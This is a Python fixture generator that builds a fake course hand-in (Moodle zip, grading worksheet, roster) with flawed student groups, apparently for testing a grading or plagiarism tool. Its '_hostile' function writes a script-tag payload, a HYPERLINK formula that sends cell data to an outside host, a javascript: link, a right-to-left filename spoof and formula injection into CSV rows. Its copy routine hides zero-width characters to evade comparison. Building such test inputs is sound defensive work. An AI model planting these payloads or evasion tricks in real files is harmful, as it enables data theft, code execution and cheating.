"""A small course, as its LMS would hand it over: sheet, test file, Moodle's zip and worksheet, a roster.

    python examples/cohort/make.py DIR

Ten groups, the same bytes on every run. Honest groups correct the homework of `examples/homework` row by row in words
of their own choice (`WORDS`); the others do what some group does every year. README.md says who is who.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import sys
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
HOMEWORK = HERE.parent / "homework"
DATA, PREDICTIONS, NOTEBOOK = (
    "CS412_HW4_Step1_Data.csv",
    "CS412_HW4_Step2_Predictions.csv",
    "CS412_HW4_Finetuning.ipynb",
)
WORDS = {
    "for example": "for instance", "such as": "like", "because": "since", "usually": "normally", "often": "frequently",
    "large": "big", "small": "little", "many": "a lot of", "must": "have to", "need to": "have to", "near": "close to",
    "begin": "start", "children": "kids", "whole": "entire", "famous": "well known", "difficult": "hard",
    "important": "essential", "do not": "don't", "is not": "isn't", "cannot": "can't", "it is": "it's",
    "you are": "you're", "we are": "we're", "every": "each", "people": "persons", "help": "support", "but": "yet",
    "quickly": "fast", "choose": "pick", "keep": "hold", "buy": "get", "job": "position", "shop": "store",
    "while": "as", "when": "whenever", "before": "ahead of", "and": "as well as", "or": "or else", "very": "quite",
    "good": "fine", "first": "to begin with", "more than": "over", "part": "piece", "free": "at no cost",
}  # fmt: skip
"""A word, and one that a corrector may like as much."""

Rows = list[dict[str, str]]


@dataclass(frozen=True)
class Group:
    """A group and what it hands in.

    Attributes:
        care: Share of the faulty rows that it corrects.
        taste: Share of the words of `WORDS` that it writes in its own way.
        handed_in: As Moodle's worksheet shows it; "" for a group that hands nothing in.
        change: What it does to its files, by name, before they are zipped.
        spoil: What becomes of the zip on its way.
    """

    name: str
    number: int
    members: tuple[str, ...]
    care: float = 0.95
    taste: float = 0.25
    handed_in: str = "Sunday, 29 November 2026, 6:12 PM"
    status: str = "Submitted for grading"
    change: Callable[[dict[str, bytes]], dict[str, bytes]] = field(default=lambda files: files)
    spoil: Callable[[bytes], bytes] = field(default=lambda content: content)


def main() -> None:
    """Writes the course into the folder that is named."""
    if len(sys.argv) != 2:
        sys.exit("usage: python examples/cohort/make.py DIR")
    make(Path(sys.argv[1]))


def make(folder: Path, groups: Sequence[Group] = ()) -> None:
    """Writes `sheet.csv`, `test.csv`, `moodle.zip`, `worksheet.csv` and `groups.csv` into the folder.

    Args:
        groups: Other groups than the ten; Night Owls and Copy Cats must be among them.
    """
    groups = groups or GROUPS
    folder.mkdir(parents=True, exist_ok=True)
    for name, source in (("sheet.csv", "original.csv"), ("test.csv", "test.csv")):
        (folder / name).write_bytes((HOMEWORK / source).read_bytes())
    files = {group.name: group.change(_files(group)) for group in groups}
    files["Copy Cats"] = _copied(files["Copy Cats"], files["Night Owls"])
    entries = {
        f"{group.name}_{group.number}_assignsubmission_file/CS412-HW4-{group.name.replace(' ', '-')}.zip": group.spoil(
            zipped(files[group.name])
        )
        for group in groups
        if group.handed_in
    }
    entries["Default group_assignsubmission_file/homework.zip"] = zipped(_files(groups[0]))
    (folder / "moodle.zip").write_bytes(zipped(entries))
    (folder / "worksheet.csv").write_bytes(_worksheet(groups))
    (folder / "groups.csv").write_bytes(_roster(groups))


def zipped(entries: Mapping[str, bytes]) -> bytes:
    """The entries as a zip, the same bytes on every run."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 11, 29, 12, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return target.getvalue()


def read(path: Path) -> Rows:
    """The rows of a CSV."""
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def as_csv(rows: Sequence[Mapping[str, str]]) -> bytes:
    """The rows as a spreadsheet exports them."""
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode()


def notebook(*, outputs: bool = True, error: str = "") -> bytes:
    """A notebook as Colab downloads it, with what its two cells printed."""
    said = {"output_type": "stream", "name": "stdout", "text": ["step 30: loss 1.02\n"]}
    failed = {"output_type": "error", "ename": error, "evalue": "cell failed", "traceback": []}
    sources = [
        "!finetune run data.csv --out runs/first",
        "!finetune predict --run runs/first test.csv -o out.csv",
    ]
    cells = [
        {
            "cell_type": "code",
            "execution_count": number if outputs else None,
            "metadata": {},
            "source": [source],
            "outputs": [said] * outputs + ([failed] if error and number == 2 else []),
        }
        for number, source in enumerate(sources, start=1)
    ]
    body = {
        "cells": cells,
        "metadata": {"kernelspec": {"name": "python3"}},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    return json.dumps(body, indent=1).encode()


def _files(group: Group) -> dict[str, bytes]:
    taste = _Taste(group)
    return {
        DATA: as_csv(_corrected(group, taste)),
        PREDICTIONS: as_csv(_predictions(taste)),
        NOTEBOOK: notebook(),
    }


class _Taste:
    """The words that a group prefers where another would do as well."""

    def __init__(self, group: Group):
        self.random = random.Random(group.name)
        self.share = group.taste
        self.pattern = re.compile(rf"\b({'|'.join(sorted(WORDS, key=len, reverse=True))})\b")

    def __call__(self, text: str) -> str:
        return self.pattern.sub(self._word, text)

    def _word(self, found: re.Match[str]) -> str:
        return WORDS[found[0]] if self.random.random() < self.share else found[0]


def _corrected(group: Group, taste: _Taste) -> Rows:
    fixed = {row["id"]: row for row in read(HOMEWORK / "fixed.csv")}
    rows: Rows = []
    for row in read(HOMEWORK / "original.csv"):
        better = fixed[row["id"]]
        if taste.random.random() < group.care:
            row = {
                **better,
                "output": taste(better["output"]) if better["output"] != row["output"] else row["output"],
            }
        else:
            row = {**row, "fail_mode": better["fail_mode"]}
        if taste.random.random() < 0.1:
            row["fail_mode"] = taste.random.choice(["grammar", "compliance", "tone"])
        rows.append(row)
    return rows


def _predictions(taste: _Taste) -> Rows:
    answers = {row["id"]: row["answer"] for row in read(HERE / "answers.csv")}
    return [{**row, "prediction": taste(answers[row["id"]])} for row in read(HOMEWORK / "test.csv")]


def _copied(own: dict[str, bytes], theirs: dict[str, bytes]) -> dict[str, bytes]:
    """Six of ten rows from another group, every third of those with an invisible character against comparison."""
    rows = [_parsed(files[DATA]) for files in (own, theirs)]
    for number, (mine, other) in enumerate(zip(*rows, strict=True)):
        if number % 10 < 6:
            text = other["output"]
            mine["output"] = text[:20] + "\u200b" + text[20:] if number % 3 == 0 else text
            mine["fail_mode"] = other["fail_mode"]
    return {**own, DATA: as_csv(rows[0]), PREDICTIONS: theirs[PREDICTIONS]}


def _parsed(content: bytes) -> Rows:
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def _hostile(files: dict[str, bytes]) -> dict[str, bytes]:
    """Cells that would run somewhere, and files that would configure somebody."""
    rows = _parsed(files[DATA])
    rows[0]["output"] = "<script>alert(1)</script> " + rows[0]["output"]
    rows[1]["output"] = '=HYPERLINK("http://example.com/?"&A1,"The sky is blue.")'
    rows[2]["output"] = "[click](javascript:alert(1)) \u202egnp.exe \x1b[31mred"
    rows[3]["fail_mode"] = "=1+1"
    return {
        **files,
        DATA: as_csv(rows),
        "proofgate.toml": b'guide = "mine.toml"\nlabels = "optional"\n',
        "baseline.json": b'{"format": 1, "accepted": []}',
        NOTEBOOK: notebook(error="RuntimeError"),
    }


def _without_notebook(files: dict[str, bytes]) -> dict[str, bytes]:
    return {name: content for name, content in files.items() if name != NOTEBOOK}


def _careless(files: dict[str, bytes]) -> dict[str, bytes]:
    """Outputs cleared, some answers empty, some that go on and on, in a folder inside the zip."""
    rows = _parsed(files[PREDICTIONS])
    for number, row in enumerate(rows):
        if number % 6 == 1:
            row["prediction"] = ""
        if number % 6 == 4:
            row["prediction"] = " ".join(["I think that this is a good question."] * 30)
    changed = {**files, PREDICTIONS: as_csv(rows), NOTEBOOK: notebook(outputs=False)}
    return {f"homework/{name}": content for name, content in changed.items()} | {"__MACOSX/._x": b""}


GROUPS = (
    Group("Harbor Lights", 501, ("Ada Byron", "Ben Okafor"), care=1.0),
    Group("Güneş Işığı", 502, ("Çağla Yıldız", "İbrahim Şen", "Nur Öztürk")),
    Group("Night Owls", 503, ("Eva Lind", "Farid Haddad"), care=0.9, taste=0.4),
    Group("Copy Cats", 504, ("Gina Russo", "Hugo Blanc"), care=0.7),
    Group(
        "Late Lions", 505, ("Ines Duarte", "Jonas Weber"),
        handed_in="Wednesday, 2 December 2026, 1:40 AM",
        status="Submitted for grading - 1 day 1 hour late",
    ),
    Group("Broken Bridge", 506, ("Kai Tanaka", "Lena Novak"), spoil=lambda content: content[: len(content) // 2]),
    Group("Bobby Tables", 507, ("Mia Rossi", "Noah Clark"), care=0.8, change=_hostile),
    Group("No Notebook", 508, ("Olga Petrova", "Pat Murphy"), care=0.85, change=_without_notebook),
    Group("Easy Going", 509, ("Quinn Adams", "Rosa Vidal"), care=0.3, change=_careless),
    Group("Silent Partners", 510, ("Sven Dahl", "Tara Singh"), handed_in="", status="No submission"),
)  # fmt: skip
HEADER = (
    "Identifier", "Full name", "Email address", "Status", "Group", "Grade", "Maximum grade", "Grade can be changed",
    "Last modified (submission)", "Last modified (grade)", "Feedback comments",
)  # fmt: skip


def _participants(groups: Iterable[Group]) -> Iterable[tuple[str, str, str, Group]]:
    number = 9000
    for group in groups:
        for name in group.members:
            number += 1
            yield f"Participant {number}", name, f"student{number}@example.edu", group


def _worksheet(groups: Iterable[Group]) -> bytes:
    """Moodle's offline grading worksheet of a site in English."""
    rows = [
        dict(
            zip(
                HEADER,
                (
                    number,
                    name,
                    mail,
                    group.status,
                    group.name,
                    "",
                    "100.00",
                    "Yes",
                    group.handed_in or "-",
                    "-",
                    "",
                ),
                strict=True,
            )
        )
        for number, name, mail, group in _participants(groups)
    ]
    return b"\xef\xbb\xbf" + as_csv(rows)


def _roster(groups: Iterable[Group]) -> bytes:
    return as_csv(
        [
            {"group": group.name, "identifier": number, "name": name, "email": mail, "late_days_left": "1"}
            for number, name, mail, group in _participants(groups)
        ]
    )


if __name__ == "__main__":
    main()
